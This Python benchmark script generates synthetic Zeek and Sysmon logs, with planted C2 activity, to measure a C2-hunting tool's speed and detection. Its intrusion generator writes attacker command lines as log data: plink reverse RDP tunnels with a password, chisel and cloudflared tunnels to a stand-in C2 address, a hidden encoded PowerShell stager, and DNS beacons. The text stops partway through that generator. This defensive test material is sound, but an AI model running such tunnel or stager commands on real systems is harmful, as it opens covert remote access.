"""Records/s and peak memory of the offline runner's ``hunt`` at real data volumes.

    python benchmarks/offline_scale.py [--sizes 200000,1000000] [--hosts 2000] [--beacons 20]
                                       [--dns-share 0.2] [--row-size 50000] [--keep DIR]
                                       [--sysmon 0.25] [--sysmon-hosts 300] [--no-conn]

Generates, deterministically (fixed seed), a day of Zeek ``conn.log`` (JSON lines) from
``--hosts`` internal hosts talking to a pool of internet servers, plus a Zeek ``dns.log`` of
``--dns-share`` times as many records, with planted C2 that the app must still find:

* ``--beacons`` internal hosts beaconing to their own rare internet server (period 60-900 s,
  10-20 % jitter, steady sizes) on tcp/443, tcp/8443 or udp/53xx;
* one DNS tunnel: a host sending long high-entropy subdomain queries under one domain
  (one query in 50 of dns.log).

Beside it, Sysmon for Windows (``--sysmon``: a share of each size, 0.25 by default, so the
default sizes give 50,000 and 250,000 Sysmon events; ``--no-conn`` runs Sysmon alone, e.g.
``--sizes 200000 --sysmon 1 --no-conn``), generated as deterministically: a day of
``--sysmon-hosts`` workstations as Splunk's XmlWinEventLog holds them (one ``<Event>`` a line,
one file per hour, as an hourly export from Splunk or a collection would be split: the XML
reader reads a file whole). Binary EVTX is not written: no maintained library writes it
(python-evtx and the Rust ``evtx`` crate only read). The fleet's records: network connections
(Event ID 3, 40 %: browsers, Teams, Outlook, OneDrive, Zoom and Slack installed per user in
AppData, svchost, lsass, Defender, updaters, the Splunk forwarder, to the internet, the
resolver, domain controllers and file servers), DNS queries (22, 30 %), process starts (1,
12 %: browser children, svchost, WMI, scripts from NETLOGON, Office, an administrator's
``ssh -L``), terminations (5), file creates (11) and registry values (13). Planted on
``per_kind`` (3) hosts each, one intrusion a host, each kind aimed at one Sysmon search
(``SYSMON_SEARCHES``): raw TCP from an HTA, DLL or PowerShell stager to its handler; an implant
in ProgramData reaching a SOCKS or Tor port; a payload in Temp or Downloads calling home over
HTTPS; plink -R, cloudflared and chisel tunnels; a DNS beacon in rundll32 with data in its query
names; PowerShell, wscript and rundll32 using Telegram, pastebin and Discord; mshta, regsvr32
and certutil resolving dynamic-DNS and machine-made names. The table counts each planted host
found by its search, and the notables on hosts nothing was planted on (the background's false
positives).

``hunt`` streams by default (:mod:`c2hunt_offline.columnar.stream`: the files read a chunk at a
time, each search's per-event prefix run on every chunk); ``--stream both`` (the default) runs
each size streamed and whole (``C2HUNT_STREAM=0``) in the same sitting, prints both peaks and
checks the two outputs are the same; ``--workers 1,2`` runs the whole-table hunt once per
``C2HUNT_WORKERS`` value (in-process, and its searches across two processes) and checks those
outputs too; the plan of every search (streamed or whole table, the fields it keeps) is printed
first. The CPU seconds are the child's and its worker processes'; the peak RSS is the largest
one process's (wait4), not their sum.

Each size runs ``python -m c2hunt_offline hunt --format json`` (every correlation search) in
a child process and prints: records/s end to end (read + every search), wall seconds, the
child's peak RSS, and the notables found by search, with how many planted beacons were found.
Beside it, in the same run: Python's ``json`` module merely parsing the same files (the
reference the issue sets: ``hunt`` should take no longer than that; ElementTree parsing each
``<Event>`` for Sysmon), and with ``--row-size``
the row engine (``C2HUNT_ENGINE=row``: no memo, no lookup index) on a file of that size, and
with ``--baseline-root`` another checkout's runner on it too (before/after), so ratios are
measured under the same load. With ``--profile N`` the hunt of N records runs under cProfile in this process
and the top functions by own time are printed instead.
"""
import argparse
import collections
import hashlib
import heapq
import json
import os
import random
import subprocess
import sys
import tempfile
import time

import repo_paths  # the repository's import folders (pyproject.toml), first

ROOT = repo_paths.ROOT
DAY = 86400.0
START = 1715644800.0  # 2024-05-14 00:00 UTC

BEACON_SEARCH = "C2Hunt - Periodic Beaconing - Rule"

_CONN = ('{"ts":%.6f,"uid":"C%013x","id.orig_h":"%s","id.orig_p":%d,"id.resp_h":"%s",'
         '"id.resp_p":%d,"proto":"%s","service":%s,"duration":%.6f,"orig_bytes":%d,'
         '"resp_bytes":%d,"conn_state":"%s","local_orig":true,"local_resp":%s,"missed_bytes":0,'
         '"history":"%s","orig_pkts":%d,"orig_ip_bytes":%d,"resp_pkts":%d,"resp_ip_bytes":%d}\n')
_DNS = ('{"ts":%.6f,"uid":"D%013x","id.orig_h":"%s","id.orig_p":%d,"id.resp_h":"%s",'
        '"id.resp_p":53,"proto":"udp","trans_id":%d,"query":"%s","qclass":1,"qclass_name":"C_INTERNET",'
        '"qtype":%d,"qtype_name":"%s","rcode":0,"rcode_name":"NOERROR","AA":false,"TC":false,'
        '"RD":true,"RA":true,"Z":0,"answers":["%s"],"TTLs":[300.0],"rejected":false}\n')

_SERVICES = [(443, "tcp", '"ssl"', 0.45), (80, "tcp", '"http"', 0.15), (53, "udp", '"dns"', 0.15),
             (123, "udp", "null", 0.05), (22, "tcp", '"ssh"', 0.03), (445, "tcp", "null", 0.05),
             (8080, "tcp", '"http"', 0.04), (3389, "tcp", "null", 0.02), (993, "tcp", '"ssl"', 0.03),
             (8443, "tcp", '"ssl"', 0.03)]
_DOMAINS = ["example.com", "cdn.example.net", "mail.example.org", "updates.example.com",
            "static.example.net", "api.example.org", "news.example.com", "video.example.net"]


def _internal(rng, hosts):
    n = rng.randrange(hosts)
    return "10.%d.%d.%d" % (20 + n // 62500, (n // 250) % 250, 1 + n % 250)


def _external(rng, pool):
    n = rng.randrange(pool)
    return "%d.%d.%d.%d" % (23 + n % 170, (n * 7) % 250 + 1, (n * 13) % 250 + 1, (n % 240) + 2)


def _conn_line(rng, ts, uid, src, dst, port, proto, service, local_resp):
    out_b = int(rng.lognormvariate(6.5, 1.5))
    in_b = int(rng.lognormvariate(8.0, 2.0))
    state = "SF" if rng.random() > 0.08 else rng.choice(("S0", "REJ", "RSTO", "SH"))
    if state in ("S0", "REJ"):
        out_b = in_b = 0
    op, rp = 1 + out_b // 1200, 1 + in_b // 1200
    return _CONN % (ts, uid, src, rng.randrange(32768, 60999), dst, port, proto, service,
                    rng.expovariate(1 / 5.0), out_b, in_b, state, local_resp,
                    "ShADadFf" if state == "SF" else "S", op, out_b + 40 * op, rp, in_b + 40 * rp)


def generate(folder, n_conn, hosts=2000, n_beacons=20, dns_share=0.2, seed=17):
    """Write conn.log and dns.log for ``n_conn`` conn records; returns (paths, planted)."""
    rng = random.Random(seed)
    weights = [w for *_, w in _SERVICES]
    planted = []
    beacon_records = []
    for b in range(n_beacons):
        src = "10.99.%d.%d" % (b // 200, 10 + b % 200)
        dst = "198.51.%d.%d" % (100 + b // 250, 1 + b % 250)
        port, proto = rng.choice([(443, "tcp"), (8443, "tcp"), (5353 + b, "udp")])
        period = rng.choice([60, 120, 300, 600, 900])
        jitter = rng.choice([0.1, 0.15, 0.2])
        size = rng.randrange(200, 2000)
        t = START + rng.uniform(0, period)
        while t < START + DAY:
            beacon_records.append((t, src, dst, port, proto, size))
            t += period * (1 + rng.uniform(-jitter, jitter))
        planted.append((src, dst, port, proto))
    n_background = max(0, n_conn - len(beacon_records))
    conn_path, dns_path = os.path.join(folder, "conn.log"), os.path.join(folder, "dns.log")
    # The background is written in time order as it is drawn and the beacons (at most a few
    # thousand lines) merged in afterwards, so 20 million records never sit in memory; the
    # order is that of sorting every (ts, line), as the file always had.
    background_path = conn_path + ".background"
    with open(background_path, "w") as out:
        for i in range(n_background):
            ts = START + DAY * i / max(1, n_background)
            port, proto, service, _ = rng.choices(_SERVICES, weights)[0]
            # file sharing and remote desktop stay inside; ssh goes out now and then
            internal_dest = port in (445, 3389) or (port == 22 and rng.random() < 0.7)
            dst = _internal(rng, hosts) if internal_dest else _external(rng, 5000)
            out.write(_conn_line(rng, ts, i, _internal(rng, hosts), dst, port, proto,
                                 service, "true" if internal_dest else "false"))
    beacons = sorted((ts, _CONN % (ts, 1 << 40 | j, src, rng.randrange(32768, 60999), dst, port,
                                   proto, "null", rng.uniform(0.2, 0.4), size, size * 3, "SF",
                                   "false", "ShADadFf", 3, size + 120, 3, size * 3 + 120))
                     for j, (ts, src, dst, port, proto, size) in enumerate(beacon_records))
    with open(background_path) as background, open(conn_path, "w") as out:
        timed = ((START + DAY * i / max(1, n_background), line) for i, line in enumerate(background))
        out.writelines(line for _, line in heapq.merge(timed, beacons))
    os.remove(background_path)
    n_dns = int(n_conn * dns_share)
    with open(dns_path, "w") as out:
        tunnel_every = 50
        for i in range(n_dns):
            ts = START + DAY * i / max(1, n_dns)
            if i % tunnel_every == 0:
                label = "%032x" % rng.getrandbits(128)
                query, src = "%s.%s.t1.c2tunnel-example.net" % (label[:30], label[30:]), "10.99.8.8"
            else:
                query, src = "%s.%s" % (rng.choice(("www", "img", "api", "m")), rng.choice(_DOMAINS)), \
                    _internal(rng, hosts)
            out.write(_DNS % (ts, i, src, rng.randrange(32768, 60999), "10.20.0.53",
                              rng.randrange(65536), query, 1, "A", _external(rng, 5000)))
    return [conn_path, dns_path], planted


# ---------------------------------------------------------------- Sysmon for Windows
# The XmlWinEventLog rendering (Splunk Add-on for Microsoft Windows 5.x and the Sysmon TA): one
# <Event> element a line, as `| table _raw` exports it. Binary EVTX is not written: no maintained
# library writes it (python-evtx and the Rust evtx crate only read), and Splunk users export XML.
# Sysmon events per size (--sysmon): a share of the conn records, as --dns-share is
SYSMON_SHARE = 0.25
SYSMON_SEARCHES = {
    "raw_tcp": "C2Hunt - Non-Application Protocol From Unexpected Process - Sysmon - Rule",
    "socks": "C2Hunt - Non-Application Protocol From Unexpected Process - Sysmon - Rule",
    "transient_path": "C2Hunt - Connection From User-Writable Path, Unusual System Process Or Loopback Tunnel - Rule",
    "tunnel_tool": "C2Hunt - Tunnelling Tool Or Reverse Shell Command Line - Rule",
    "dns_tunnel": "C2Hunt - DNS Tunnel From Process - Sysmon - Rule",
    "web_service": "C2Hunt - Web Service C2 From Non-Browser Process - Rule",
    "lolbin_dns": "C2Hunt - Dynamic DNS, DGA Or Suspicious TLD Lookup By LOLBin - Rule",
}
_EVENT = ('<Event xmlns="http://schemas.microsoft.com/win/2004/08/events/event"><System>'
          '<Provider Name="Microsoft-Windows-Sysmon" Guid="{5770385f-c22a-43e0-bf4c-06f5698ffbd9}"/>'
          '<EventID>%d</EventID><Version>%d</Version><Level>4</Level><Task>%d</Task><Opcode>0</Opcode>'
          '<Keywords>0x8000000000000000</Keywords><TimeCreated SystemTime="%s.%07dZ"/>'
          '<EventRecordID>%d</EventRecordID><Correlation/><Execution ProcessID="%d" ThreadID="%d"/>'
          '<Channel>Microsoft-Windows-Sysmon/Operational</Channel><Computer>%s</Computer>'
          '<Security UserID="S-1-5-18"/></System><EventData>%s</EventData></Event>\n')
_SYSMON_VERSION = {1: 5, 3: 5, 5: 3, 11: 2, 13: 2, 22: 5}
SYSTEM, NETWORK_SERVICE, LOCAL_SERVICE = ("NT AUTHORITY\\SYSTEM", "NT AUTHORITY\\NETWORK SERVICE",
                                          "NT AUTHORITY\\LOCAL SERVICE")
_PF, _S32 = "C:\\Program Files", "C:\\Windows\\System32"
# Long-running programs of a Windows workstation: (key, image, user: None = the host's user,
# command line). {u} is the user's profile name.
_RESIDENT = [
    ("chrome", _PF + "\\Google\\Chrome\\Application\\chrome.exe", None,
     '"%s\\Google\\Chrome\\Application\\chrome.exe" --no-startup-window' % _PF),
    ("msedge", _PF + " (x86)\\Microsoft\\Edge\\Application\\msedge.exe", None,
     '"%s (x86)\\Microsoft\\Edge\\Application\\msedge.exe" --profile-directory=Default' % _PF),
    ("teams", _PF + "\\WindowsApps\\MSTeams_24152.412.2958.916_x64__8wekyb3d8bbwe\\ms-teams.exe", None,
     '"ms-teams.exe" --system-initiated'),
    ("outlook", _PF + "\\Microsoft Office\\root\\Office16\\OUTLOOK.EXE", None,
     '"%s\\Microsoft Office\\root\\Office16\\OUTLOOK.EXE" ' % _PF),
    ("onedrive", "C:\\Users\\{u}\\AppData\\Local\\Microsoft\\OneDrive\\OneDrive.exe", None,
     '"C:\\Users\\{u}\\AppData\\Local\\Microsoft\\OneDrive\\OneDrive.exe" /background'),
    ("svchost", _S32 + "\\svchost.exe", NETWORK_SERVICE, _S32 + "\\svchost.exe -k NetworkService -p -s Dnscache"),
    ("svchost_wu", _S32 + "\\svchost.exe", SYSTEM, _S32 + "\\svchost.exe -k netsvcs -p -s wuauserv"),
    ("svchost_time", _S32 + "\\svchost.exe", LOCAL_SERVICE, _S32 + "\\svchost.exe -k LocalService -s W32Time"),
    ("lsass", _S32 + "\\lsass.exe", SYSTEM, _S32 + "\\lsass.exe"),
    ("system", "System", SYSTEM, ""),
    ("defender", "C:\\ProgramData\\Microsoft\\Windows Defender\\Platform\\4.18.24050.7-0\\MsMpEng.exe", SYSTEM,
     '"C:\\ProgramData\\Microsoft\\Windows Defender\\Platform\\4.18.24050.7-0\\MsMpEng.exe"'),
    ("gupdate", _PF + " (x86)\\Google\\Update\\GoogleUpdate.exe", SYSTEM,
     '"%s (x86)\\Google\\Update\\GoogleUpdate.exe" /ua /installsource scheduler' % _PF),
    ("splunkd", _PF + "\\SplunkUniversalForwarder\\bin\\splunkd.exe", SYSTEM,
     '"%s\\SplunkUniversalForwarder\\bin\\splunkd.exe" service' % _PF),
    ("explorer", "C:\\Windows\\explorer.exe", None, "C:\\Windows\\Explorer.EXE"),
    # per-user installs in AppData (c2hunt_user_path_allowlist says why they are software)
    ("zoom", "C:\\Users\\{u}\\AppData\\Roaming\\Zoom\\bin\\Zoom.exe", None,
     '"C:\\Users\\{u}\\AppData\\Roaming\\Zoom\\bin\\Zoom.exe" --autostart'),
    ("slack", "C:\\Users\\{u}\\AppData\\Local\\slack\\app-4.38.125\\slack.exe", None,
     '"C:\\Users\\{u}\\AppData\\Local\\slack\\app-4.38.125\\slack.exe" --process-start-args --startup'),
]
# Connections (Event ID 3): (program, transport, port, where, weight); where: ext (internet),
# dns (the site's resolver), dc (domain controllers), srv (internal servers)
_SYSMON_CONNECTIONS = [
    ("chrome", "tcp", 443, "ext", 22), ("chrome", "tcp", 80, "ext", 3), ("chrome", "udp", 443, "ext", 5),
    ("msedge", "tcp", 443, "ext", 8), ("teams", "tcp", 443, "ext", 6), ("teams", "udp", 3478, "ext", 2),
    ("outlook", "tcp", 443, "ext", 6), ("onedrive", "tcp", 443, "ext", 3),
    ("svchost", "udp", 53, "dns", 6), ("svchost_wu", "tcp", 443, "ext", 3), ("svchost_wu", "tcp", 80, "ext", 1),
    ("svchost_wu", "tcp", 135, "dc", 1), ("svchost_time", "udp", 123, "dc", 1),
    ("lsass", "tcp", 88, "dc", 2), ("lsass", "tcp", 389, "dc", 2), ("system", "tcp", 445, "srv", 3),
    ("defender", "tcp", 443, "ext", 2), ("gupdate", "tcp", 443, "ext", 1),
    ("splunkd", "tcp", 9997, "srv", 1), ("explorer", "tcp", 443, "ext", 0.5),
    ("zoom", "udp", 8801, "ext", 1), ("zoom", "tcp", 443, "ext", 1), ("slack", "tcp", 443, "ext", 2),
]
# DNS queries (Event ID 22): (program, names, weight)
_SYSMON_QUERIES = [
    ("chrome", ("www.google.com", "fonts.gstatic.com", "www.youtube.com", "github.com", "en.wikipedia.org",
                "www.linkedin.com", "stackoverflow.com", "docs.python.org", "www.bbc.co.uk", "news.ycombinator.com",
                "clients2.google.com", "accounts.google.com"), 14),
    ("msedge", ("www.bing.com", "edge.microsoft.com", "ntp.msn.com", "login.microsoftonline.com",
                "assets.msn.com"), 6),
    ("teams", ("teams.microsoft.com", "statics.teams.cdn.office.net", "presence.teams.microsoft.com",
               "login.microsoftonline.com"), 5),
    ("outlook", ("outlook.office365.com", "outlook.office.com", "autodiscover.corp.example.com",
                 "nexus.officeapps.live.com"), 4),
    ("onedrive", ("g.live.com", "onedrive.live.com", "corpexample-my.sharepoint.com"), 2),
    ("svchost_wu", ("settings-win.data.microsoft.com", "fe3cr.delivery.mp.microsoft.com",
                    "v10.events.data.microsoft.com", "ctldl.windowsupdate.com", "time.windows.com"), 3),
    ("defender", ("wdcp.microsoft.com", "go.microsoft.com", "definitionupdates.microsoft.com"), 1),
    ("gupdate", ("update.googleapis.com", "dl.google.com"), 0.5),
    ("explorer", ("fileshare01.corp.example.com", "intranet.corp.example.com"), 1),
    ("zoom", ("zoom.us", "us04web.zoom.us"), 0.5), ("slack", ("app.slack.com", "wss-primary.slack.com"), 1),
]
# Process starts (Event ID 1): (image, command line, parent program, user or None, weight)
_SYSMON_STARTS = [
    (_PF + "\\Google\\Chrome\\Application\\chrome.exe",
     '"%s\\Google\\Chrome\\Application\\chrome.exe" --type=renderer --lang=en-US --renderer-client-id={n} '
     '--launch-time-ticks={t}' % _PF, "chrome", None, 8),
    (_PF + " (x86)\\Microsoft\\Edge\\Application\\msedge.exe",
     '"%s (x86)\\Microsoft\\Edge\\Application\\msedge.exe" --type=utility --utility-sub-type=network.mojom.'
     'NetworkService --lang=en-US --service-sandbox-type=none' % _PF, "msedge", None, 3),
    (_S32 + "\\svchost.exe", _S32 + "\\svchost.exe -k netsvcs -p -s Schedule", "services", SYSTEM, 2),
    (_S32 + "\\taskhostw.exe", "taskhostw.exe -RegisterDevice -ProtectionStateChanged -FreeNetworkOnly",
     "svchost_wu", None, 2),
    (_S32 + "\\RuntimeBroker.exe", _S32 + "\\RuntimeBroker.exe -Embedding", "svchost_wu", None, 2),
    (_S32 + "\\wbem\\WmiPrvSE.exe", _S32 + "\\wbem\\wmiprvse.exe -secured -Embedding", "svchost_wu",
     NETWORK_SERVICE, 2),
    (_S32 + "\\conhost.exe", "\\??\\C:\\Windows\\system32\\conhost.exe 0xffffffff -ForceV1", "explorer", None, 2),
    (_S32 + "\\cmd.exe", 'C:\\Windows\\system32\\cmd.exe /c ""C:\\Program Files\\Scripts\\sync-time.cmd""',
     "explorer", None, 1),
    (_S32 + "\\WindowsPowerShell\\v1.0\\powershell.exe",
     'powershell.exe -NoProfile -ExecutionPolicy Bypass -File "\\\\corp.example.com\\NETLOGON\\map-drives.ps1"',
     "explorer", None, 1),
    (_S32 + "\\dllhost.exe", "C:\\Windows\\system32\\DllHost.exe /Processid:{{3EB3C877-1F16-487C-9050-104DBCD66683}}",
     "svchost_wu", None, 1),
    (_S32 + "\\SearchProtocolHost.exe", '"C:\\Windows\\system32\\SearchProtocolHost.exe" Global\\UsGthrFltPipe'
     'MssGthrPipe{n}_ Global\\UsGthrCtrlFltPipeMssGthrPipe{n} 1 -2147483646 "Software\\Microsoft\\Windows Search" '
     '"Mozilla/4.0 (compatible; MSIE 6.0; Windows NT; MS Search 4.0 Robot)" "C:\\ProgramData\\Microsoft\\Search\\'
     'Data\\Temp\\usgthrsvc" "DownLevelDaemon"', "svchost_wu", SYSTEM, 1),
    (_PF + "\\Git\\cmd\\git.exe", '"C:\\Program Files\\Git\\cmd\\git.exe" fetch --prune origin', "explorer",
     None, 0.5),
    # an administrator's everyday ssh local forward: below the command-line search's minimum alone
    ("C:\\Windows\\System32\\OpenSSH\\ssh.exe", "ssh.exe -N -L 15432:db01.corp.example.com:5432 admin@jump01",
     "explorer", None, 0.2),
    (_PF + "\\Microsoft Office\\root\\Office16\\WINWORD.EXE",
     '"%s\\Microsoft Office\\root\\Office16\\WINWORD.EXE" /n "C:\\Users\\{u}\\Documents\\report-{n}.docx"' % _PF,
     "explorer", None, 1),
]
_SYSMON_FILES = ("C:\\Users\\{u}\\AppData\\Local\\Google\\Chrome\\User Data\\Default\\Cache\\Cache_Data\\f_{n:06x}",
                 "C:\\Users\\{u}\\AppData\\Local\\Temp\\~DF{n:04X}.tmp",
                 "C:\\Windows\\Prefetch\\CHROME.EXE-{n:08X}.pf",
                 "C:\\Users\\{u}\\Downloads\\report-{n}.pdf")
_SYSMON_KEYS = ("HKU\\{sid}\\Software\\Microsoft\\Windows\\CurrentVersion\\Explorer\\UserAssist\\{{CEBFF5CD}}\\Count",
                "HKLM\\System\\CurrentControlSet\\Services\\bam\\State\\UserSettings\\{sid}\\"
                "\\Device\\HarddiskVolume3\\Windows\\System32\\cmd.exe",
                "HKLM\\SOFTWARE\\Microsoft\\Windows Defender\\Signature Updates\\SignaturesLastUpdated")


def _esc(value):
    value = str(value)
    if "&" in value or "<" in value or ">" in value:
        value = value.replace("&", "&amp;").replace("<", "&lt;").replace(">", "&gt;")
    return value


def _data(pairs):
    return "".join('<Data Name="%s">%s</Data>' % (name, _esc(value)) for name, value in pairs)


class _SysmonFleet(object):
    """Windows workstations, their resident programs and the Sysmon records they write."""

    def __init__(self, rng, n_hosts):
        self.rng = rng
        self.hosts = []
        for h in range(n_hosts):
            user = "user%04d" % h
            host = {"name": "ws%04d.corp.example.com" % h, "ip": "10.40.%d.%d" % (h // 250, 10 + h % 240),
                    "user": "CORP\\" + user, "profile": user, "record": 1000 + h * 7,
                    "sid": "S-1-5-21-3623811015-3361044348-30300820-%d" % (1100 + h), "programs": {}}
            for key, image, runs_as, command in _RESIDENT:
                host["programs"][key] = {"image": image.replace("{u}", user), "user": runs_as or host["user"],
                                         "command": command.replace("{u}", user), "guid": self.guid(),
                                         "pid": rng.randrange(400, 30000, 4)}
            host["programs"]["services"] = {"image": _S32 + "\\services.exe", "user": SYSTEM, "guid": self.guid(),
                                            "command": _S32 + "\\services.exe", "pid": 720}
            self.hosts.append(host)

    def guid(self):
        r = self.rng.getrandbits(96)
        return "{%08x-%04x-%04x-%04x-%012x}" % (0x747f3d96, (r >> 80) & 0xffff, (r >> 64) & 0xffff,
                                               (r >> 48) & 0xffff, r & 0xffffffffffff)

    def record(self, host, ts, event_id, pairs):
        host["record"] += 1
        utc = time.gmtime(ts)
        micro = int((ts % 1) * 1e6)
        return _EVENT % (event_id, _SYSMON_VERSION[event_id], event_id, time.strftime("%Y-%m-%dT%H:%M:%S", utc),
                         micro * 10, host["record"], 3320, 4512, host["name"],
                         _data([("RuleName", "-"), ("UtcTime", time.strftime("%Y-%m-%d %H:%M:%S", utc)
                                                    + ".%03d" % (micro // 1000))] + pairs))

    def start(self, host, ts, proc, parent):
        """Event ID 1 of ``proc`` (image, command, user, guid, pid) started by ``parent``."""
        return self.record(host, ts, 1, [
            ("ProcessGuid", proc["guid"]), ("ProcessId", proc["pid"]), ("Image", proc["image"]),
            ("FileVersion", "-"), ("Description", "-"), ("Product", "-"), ("Company", "-"),
            ("OriginalFileName", "-"), ("CommandLine", proc["command"]), ("CurrentDirectory", "C:\\Windows\\system32\\"),
            ("User", proc["user"]), ("LogonGuid", "{747f3d96-0000-0000-0000-000000000000}"),
            ("LogonId", "0x3e7" if proc["user"] == SYSTEM else "0x%x" % (0x1a2b3c + len(host["name"]))),
            ("TerminalSessionId", 0 if proc["user"] == SYSTEM else 1),
            ("IntegrityLevel", "System" if proc["user"] == SYSTEM else "Medium"),
            ("Hashes", "SHA256=" + hashlib.sha256(proc["image"].encode()).hexdigest().upper()),
            ("ParentProcessGuid", parent["guid"]), ("ParentProcessId", parent["pid"]),
            ("ParentImage", parent["image"]), ("ParentCommandLine", parent["command"]),
            ("ParentUser", parent["user"])])

    def connect(self, host, ts, proc, transport, dest, port, dest_name="-"):
        return self.record(host, ts, 3, [
            ("ProcessGuid", proc["guid"]), ("ProcessId", proc["pid"]), ("Image", proc["image"]),
            ("User", proc["user"]), ("Protocol", transport), ("Initiated", "true"), ("SourceIsIpv6", "false"),
            ("SourceIp", host["ip"]), ("SourceHostname", host["name"]),
            ("SourcePort", self.rng.randrange(49152, 65535)), ("SourcePortName", "-"),
            ("DestinationIsIpv6", "false"), ("DestinationIp", dest), ("DestinationHostname", dest_name),
            ("DestinationPort", port), ("DestinationPortName", "-")])

    def query(self, host, ts, proc, name, answer):
        return self.record(host, ts, 22, [
            ("ProcessGuid", proc["guid"]), ("ProcessId", proc["pid"]), ("QueryName", name),
            ("QueryStatus", 0), ("QueryResults", "::ffff:%s;" % answer if answer else "-"),
            ("Image", proc["image"]), ("User", proc["user"])])


def _where(rng, where):
    if where == "dns":
        return "10.40.250.53"
    if where == "dc":
        return rng.choice(("10.40.250.10", "10.40.250.11"))
    if where == "srv":
        return "10.40.251.%d" % rng.randrange(1, 40)
    return _external(rng, 5000)


def _sysmon_background(fleet, ts, n):
    """One benign Sysmon record of a random host at ``ts``."""
    rng = fleet.rng
    host = fleet.hosts[rng.randrange(len(fleet.hosts))]
    kind = rng.random()
    if kind < 0.40:
        key, transport, port, where, _ = rng.choices(_SYSMON_CONNECTIONS, _CONNECTION_WEIGHTS)[0]
        return fleet.connect(host, ts, host["programs"][key], transport, _where(rng, where), port)
    if kind < 0.70:
        key, names, _ = rng.choices(_SYSMON_QUERIES, _QUERY_WEIGHTS)[0]
        name = rng.choice(names)
        return fleet.query(host, ts, host["programs"][key], name,
                           "10.40.251.5" if name.endswith("corp.example.com") else _external(rng, 5000))
    if kind < 0.82:
        image, command, parent, user, _ = rng.choices(_SYSMON_STARTS, _START_WEIGHTS)[0]
        proc = {"image": image, "command": command.format(n=n % 997, t=n, u=host["profile"]),
                "user": user or host["user"], "guid": fleet.guid(), "pid": rng.randrange(400, 30000, 4)}
        return fleet.start(host, ts, proc, host["programs"][parent])
    proc = host["programs"][rng.choice(("chrome", "msedge", "outlook", "explorer", "defender"))]
    if kind < 0.90:
        return fleet.record(host, ts, 5, [("ProcessGuid", fleet.guid()), ("ProcessId", rng.randrange(400, 30000, 4)),
                                          ("Image", _S32 + "\\conhost.exe"), ("User", host["user"])])
    if kind < 0.96:
        target = rng.choice(_SYSMON_FILES).format(u=host["profile"], n=n)
        return fleet.record(host, ts, 11, [("ProcessGuid", proc["guid"]), ("ProcessId", proc["pid"]),
                                           ("Image", proc["image"]), ("TargetFilename", target),
                                           ("CreationUtcTime", time.strftime("%Y-%m-%d %H:%M:%S.000",
                                                                             time.gmtime(ts))),
                                           ("User", proc["user"])])
    return fleet.record(host, ts, 13, [("EventType", "SetValue"), ("ProcessGuid", proc["guid"]),
                                       ("ProcessId", proc["pid"]), ("Image", proc["image"]),
                                       ("TargetObject", rng.choice(_SYSMON_KEYS).format(sid=host["sid"])),
                                       ("Details", "DWORD (0x%08x)" % rng.getrandbits(32)), ("User", proc["user"])])


_CONNECTION_WEIGHTS = [w for *_, w in _SYSMON_CONNECTIONS]
_QUERY_WEIGHTS = [w for *_, w in _SYSMON_QUERIES]
_START_WEIGHTS = [w for *_, w in _SYSMON_STARTS]


def _plant(fleet, kind, host, variant):
    """The (ts, line) records of one intrusion of ``kind`` on ``host``; ``variant`` picks its tools."""
    rng = fleet.rng
    user, profile = host["user"], host["profile"]
    explorer = host["programs"]["explorer"]
    begin = START + rng.uniform(0.1, 0.5) * DAY
    out = []

    def proc(image, command, parent=explorer, runs_as=None):
        p = {"image": image, "command": command, "user": runs_as or user, "guid": fleet.guid(),
             "pid": rng.randrange(400, 30000, 4)}
        out.append((begin, fleet.start(host, begin, p, parent)))
        return p

    def every(p, period, jitter, count, make):
        t = begin + rng.uniform(1, 30)
        for i in range(count):
            out.append((t, make(t, i)))
            t += period * (1 + rng.uniform(-jitter, jitter))

    c2 = "203.0.113.%d" % (10 + variant * 16 + rng.randrange(16))
    if kind == "raw_tcp":  # an HTA dropper's stager talking to its handler (Meterpreter reverse_tcp)
        image = (_S32 + "\\mshta.exe", _S32 + "\\rundll32.exe", _S32 + "\\WindowsPowerShell\\v1.0\\powershell.exe")[variant % 3]
        command = ('"%s" "C:\\Users\\%s\\Downloads\\invoice_%d.hta"' % (image, profile, rng.randrange(1000)),
                   '"%s" C:\\Users\\Public\\Libraries\\msvc%d.dll,DllRegisterServer' % (image, rng.randrange(100)),
                   '"%s" -nop -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoA' % image)[variant % 3]
        p = proc(image, command)
        port = (4444, 4443, 8089, 1337)[variant % 4]
        every(p, 300, 0.2, 40, lambda t, i: fleet.connect(host, t, p, "tcp", c2, port))
    elif kind == "socks":  # an implant relaying through a SOCKS proxy it reached outside
        image = "C:\\ProgramData\\SyncHelper\\synchelper%d.exe" % variant
        p = proc(image, '"%s" --service' % image, host["programs"]["services"], SYSTEM)
        port = (1080, 9050, 9999)[variant % 3]
        every(p, 600, 0.3, 30, lambda t, i: fleet.connect(host, t, p, "tcp", c2, port))
    elif kind == "transient_path":  # a payload run from Temp / Downloads calling home over HTTPS
        folder = ("AppData\\Local\\Temp\\7zS%04X" % rng.getrandbits(16), "Downloads", "AppData\\Local\\Temp")[variant % 3]
        image = "C:\\Users\\%s\\%s\\%s" % (profile, folder, ("setup_helper.exe", "Zoom_installer.exe", "upd.exe")[variant % 3])
        p = proc(image, '"%s"' % image)
        every(p, 900, 0.15, 24, lambda t, i: fleet.connect(host, t, p, "tcp", c2, 443))
    elif kind == "tunnel_tool":  # a reverse tunnel out of the network
        image, command = (
            ("C:\\Users\\Public\\plink.exe",
             "C:\\Users\\Public\\plink.exe -ssh -batch -l tunnel -pw Passw0rd -R 127.0.0.2:3389:127.0.0.1:3389 %s" % c2),
            ("C:\\ProgramData\\cloudflared.exe", "C:\\ProgramData\\cloudflared.exe tunnel --url rdp://localhost:3389"),
            ("C:\\Users\\%s\\AppData\\Local\\Temp\\chisel.exe" % profile,
             "C:\\Users\\%s\\AppData\\Local\\Temp\\chisel.exe client %s:443 R:socks" % (profile, c2)),
        )[variant % 3]
        p = proc(image, command, host["programs"]["explorer"])
        every(p, 1800, 0.1, 8, lambda t, i: fleet.connect(host, t, p, "tcp", c2, 443 if variant else 22))
    elif kind == "dns_tunnel":  # a DNS beacon in a sacrificial process, data in the query names
        image = _S32 + "\\rundll32.exe"
        p = proc(image, '"%s" C:\\ProgramData\\%s.dll,StartW' % (image, ("msupd", "ocache", "wintrust")[variant % 3]))
        zone = ("cdn-sync%d.net", "metrics-edge%d.com", "ns%d-update.org")[variant % 3] % (variant + 2)

        def tunnel(t, i):
            label = "%040x" % rng.getrandbits(160)
            return fleet.query(host, t, p, "%s.%s.%s" % (label[:30], label[30:], zone), "")
        every(p, 20, 0.5, 600, tunnel)
